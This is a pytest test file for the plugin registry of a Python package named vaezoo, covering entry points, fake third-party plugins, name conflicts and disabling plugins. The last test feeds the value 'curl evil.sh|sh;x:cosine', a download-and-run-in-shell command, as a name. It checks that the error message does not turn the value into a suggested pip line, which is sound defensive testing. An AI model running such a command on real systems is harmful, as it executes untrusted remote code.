"""Plugins through real entry points: the defaults, a fake third-party distribution on PYTHONPATH,
broken and conflicting plugins, VAEZOO_DISABLE_PLUGINS, and `list` globs."""

from __future__ import annotations

import ast
import json
import os
import textwrap
from importlib.metadata import distribution
from pathlib import Path

import pytest
from conftest import REPO, Command, run_cli, run_cli_batch

import vaezoo
from vaezoo.errors import AmbiguousName, DuplicateName, UnknownName
from vaezoo.plugins.registry import PluginInfo, Registry

DEFAULTS = {
    "conv": "vaezoo_defaults.conv.plugin",
    "normal": "vaezoo_defaults.normal.plugin",
    "bce-kl": "vaezoo_defaults.bce.plugin",
    "cifar10": "vaezoo_defaults.cifar10.plugin",
    "zoo": "vaezoo_defaults.zoo.plugin",
}


def fake_site(tmp_path: Path, body: str, *, plugin: str = "fake", module: str = "fake_plugin_mod") -> dict[str, str]:
    """A site folder holding an installed distribution `fake-plugin` 0.1 whose `vaezoo` entry point
    `plugin` is `module`; returns the environment that puts it on the path."""
    site = tmp_path / "site"
    info = site / "fake_plugin-0.1.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: fake-plugin\nVersion: 0.1\n", encoding="utf-8")
    (info / "entry_points.txt").write_text(f"[vaezoo]\n{plugin} = {module}\n", encoding="utf-8")
    (site / f"{module}.py").write_text(textwrap.dedent(body), encoding="utf-8")
    path = os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH", "")) if p)
    return {"PYTHONPATH": path}


GOOD = """
    import vaezoo

    @vaezoo.hookimpl
    def register_encoders(register):
        register("fake-enc", "fake_plugin_mod:Nothing", summary="A fake encoder")

    @vaezoo.hookimpl
    def register_recipes(register):
        register("fake-recipe", {"summary": "A fake recipe", "latent_dim": 2})
"""


def _json(process):
    assert process.returncode == 0, process.stderr
    return json.loads(process.stdout)


def _one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, stderr
    assert "Traceback" not in stderr
    return lines[0]


# -- the defaults are ordinary entry points -------------------------------------------------------


def test_defaults_are_entry_points_of_the_vaezoo_distribution():
    points = {ep.name: ep.value for ep in distribution("vaezoo").entry_points if ep.group == "vaezoo"}
    for name, module in DEFAULTS.items():
        assert points.get(name) == module


def test_plugins_json_lists_the_defaults_with_their_distribution():
    rows = {row["name"]: row for row in _json(run_cli("plugins", "--json"))}
    for name in DEFAULTS:
        row = rows[name]
        assert row["distribution"] == "vaezoo" and row["version"] == vaezoo.__version__ and row["status"] == "ok"
    assert rows["conv"]["registers"]["encoders"] == ["conv"] and rows["conv"]["registers"]["decoders"] == ["conv"]
    assert "cifar-vae" in rows["zoo"]["registers"]["recipes"]
    assert rows["cifar10"]["registers"]["datasets"] == ["cifar10"]


def test_the_core_imports_no_plugin():
    for path in (REPO / "vaezoo").glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = (
                [alias.name for alias in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            assert not any(name.startswith("vaezoo_") for name in names), f"{path.name} imports a plugin: {names}"


# -- a third-party distribution on PYTHONPATH ---------------------------------------------------


def test_third_party_plugin_is_found_like_the_defaults(tmp_path):
    env = fake_site(tmp_path, GOOD)
    commands = [["plugins", "--json"], ["list", "encoders", "fake*", "--json"], ["list", "recipes", "--json"]]
    plugins, encoders, listed = run_cli_batch(commands, tmp_path, env=env)
    rows = {row["name"]: row for row in _json(plugins)}
    assert (
        rows["fake"]["distribution"] == "fake-plugin"
        and rows["fake"]["version"] == "0.1"
        and rows["fake"]["status"] == "ok"
    )
    assert rows["fake"]["registers"]["encoders"] == ["fake-enc"]
    assert rows["conv"]["distribution"] == "vaezoo"
    items = _json(encoders)
    assert items == [
        {
            "name": "fake-enc",
            "qualified_name": "fake-plugin:fake-enc",
            "kind": "encoder",
            "summary": "A fake encoder",
            "plugin": "fake",
            "distribution": "fake-plugin",
            "version": "0.1",
        }
    ]
    recipes = {item["name"]: item for item in _json(listed)}
    assert recipes["fake-recipe"]["plugin"] == "fake" and recipes["cifar-vae"]["plugin"] == "zoo"


def test_plugin_that_fails_to_import_is_reported_and_the_rest_work(tmp_path):
    env = fake_site(tmp_path, "import vaezoo\nraise ImportError('needs the frobnicator package')\n")
    commands = [["plugins", "--json"], ["list", "recipes", "--json"], ["plugins"]]
    process, listed, plain = run_cli_batch(commands, tmp_path, env=env)
    rows = {row["name"]: row for row in _json(process)}
    assert rows["fake"]["status"] == "failed" and "frobnicator" in rows["fake"]["error"]
    assert rows["conv"]["status"] == "ok"
    line = _one_line(process.stderr)
    assert line.startswith("vaezoo: warning:") and "'fake'" in line and "frobnicator" in line
    assert "cifar-vae" in {item["name"] for item in _json(listed)}
    assert "warning" in _one_line(listed.stderr)
    assert plain.returncode == 0 and "failed" in plain.stdout


def test_two_distributions_registering_one_name_both_list_by_qualified_name(tmp_path):
    env = fake_site(
        tmp_path, GOOD.replace('"fake-enc", "fake_plugin_mod:Nothing"', '"conv", "fake_plugin_mod:Nothing"')
    )
    commands = [
        ["list", "encoders", "--json"],
        ["list", "encoders"],
        Command("list", "encoders", "--json", env={"VAEZOO_DISABLE_PLUGINS": "fake"}),
    ]
    listed, plain, one_off = run_cli_batch(commands, tmp_path, env=env)
    conv = [item for item in _json(listed) if item["name"] == "conv"]
    assert [(item["qualified_name"], item["plugin"]) for item in conv] == [
        ("fake-plugin:conv", "fake"),
        ("vaezoo:conv", "conv"),
    ]
    assert plain.returncode == 0 and "fake-plugin:conv" in plain.stdout and "vaezoo:conv" in plain.stdout
    # switching one of them off leaves the other, listed by its short name again
    items = _json(one_off)
    assert [item["plugin"] for item in items if item["name"] == "conv"] == ["conv"]


def test_two_distributions_with_one_plugin_name_both_load_and_one_can_be_switched_off(tmp_path):
    env = fake_site(tmp_path, GOOD, plugin="conv")
    both, one, none = run_cli_batch(
        [
            ["plugins", "--json"],
            Command("plugins", "--json", env={"VAEZOO_DISABLE_PLUGINS": "fake-plugin:conv"}),
            Command("plugins", "--json", env={"VAEZOO_DISABLE_PLUGINS": "conv"}),
        ],
        tmp_path,
        env=env,
    )
    named_conv = [(row["qualified_name"], row["status"]) for row in _json(both) if row["name"] == "conv"]
    assert named_conv == [("fake-plugin:conv", "ok"), ("vaezoo:conv", "ok")]
    assert [row["qualified_name"] for row in _json(one) if row["name"] == "conv"] == ["vaezoo:conv"]
    assert [row for row in _json(none) if row["name"] == "conv"] == []


def test_disable_plugins_hides_third_party_and_default_plugins(tmp_path):
    env = {**fake_site(tmp_path, GOOD), "VAEZOO_DISABLE_PLUGINS": "fake, conv"}
    plugins, listed = run_cli_batch([["plugins", "--json"], ["list", "encoders", "--json"]], tmp_path, env=env)
    names = {row["name"] for row in _json(plugins)}
    assert "fake" not in names and "conv" not in names and "normal" in names
    encoders = {item["name"] for item in _json(listed)}
    assert "conv" not in encoders and "fake-enc" not in encoders


# -- listing ------------------------------------------------------------------------------------


def test_list_json_objects_and_globs():
    items = vaezoo.list_components()
    assert items and all({"name", "kind", "summary", "plugin"} <= set(item) for item in items)
    assert {(i["kind"], i["name"]) for i in items} >= {
        ("recipe", "cifar-vae"),
        ("encoder", "conv"),
        ("decoder", "conv"),
        ("prior", "normal"),
        ("loss", "bce-kl"),
        ("dataset", "cifar10"),
    }
    assert [i["name"] for i in vaezoo.list_components("encoders", "c?nv")] == ["conv"]
    assert [i["name"] for i in vaezoo.list_components("losses", "bce-*")] == ["bce-kl"]
    assert vaezoo.list_components("priors", "*nothing-matches*") == []
    with pytest.raises(UnknownName):
        vaezoo.list_components("widgets")


def test_list_cli_json_and_pattern_without_kind(tmp_path):
    commands = [["list", "*vae*", "--json"], ["list", "encoders", "--json"], ["list", "widgets"]]
    matched, listed, process = run_cli_batch(commands, tmp_path)
    items = _json(matched)
    assert items and all("vae" in item["name"] for item in items)
    assert "cifar-vae" in {item["name"] for item in items}
    encoders = _json(listed)
    assert {item["kind"] for item in encoders} == {"encoder"}
    assert process.returncode == 2 and "unknown kind 'widgets'" in _one_line(process.stderr)


def test_registry_keeps_one_name_of_two_distributions_and_refuses_one_distribution_twice():
    registry = Registry()
    first, second = PluginInfo("one", "dist-one", "1.0"), PluginInfo("two", "dist_Two", "2.0")
    twin = PluginInfo("twin", "dist-one", "1.0")
    registry.add("encoders", "enc", object, first)
    registry.add("decoders", "enc", object, second)  # one name in two kinds is fine
    registry.add("encoders", "enc", dict, second)  # and in two distributions
    with pytest.raises(
        AmbiguousName, match=r"encoder 'enc' is ambiguous: .*dist-one:enc \(plugin 'one'\), dist_Two:enc"
    ):
        registry.get("encoders", "enc")
    assert registry.get("encoders", "dist-two:enc").target is dict  # distributions compare as pip compares them
    assert registry.get("encoders", "enc", source="dist-one").target is object  # the recipe's own distribution
    assert registry.get("decoders", "enc").plugin is second
    assert [registry.spelling(e) for e in registry.list("encoders")] == ["dist-one:enc", "dist_Two:enc"]
    with pytest.raises(DuplicateName, match=r"encoder 'enc' is registered twice by distribution dist-one"):
        registry.add("encoders", "enc", object, twin)
    with pytest.raises(UnknownName, match="did you mean enc"):
        registry.get("encoders", "enk")
    with pytest.raises(
        UnknownName, match="no plugin of distribution 'dist-three' is installed.*pip install dist-three"
    ):
        registry.get("encoders", "dist-three:enc")
    assert first.registers == {"encoders": ["enc"]} and second.registers == {"decoders": ["enc"], "encoders": ["enc"]}


def test_an_unknown_distribution_gets_a_pip_line_only_when_it_is_a_package_name():
    from vaezoo.errors import UnknownName
    from vaezoo.plugins.manager import get_registry

    with pytest.raises(UnknownName, match="`pip install vaezoo-nothere`"):
        get_registry().get("schedules", "vaezoo-nothere:cosine")
    with pytest.raises(UnknownName) as refused:
        get_registry().get("schedules", "curl evil.sh|sh;x:cosine")
    assert "pip install" not in str(refused.value)
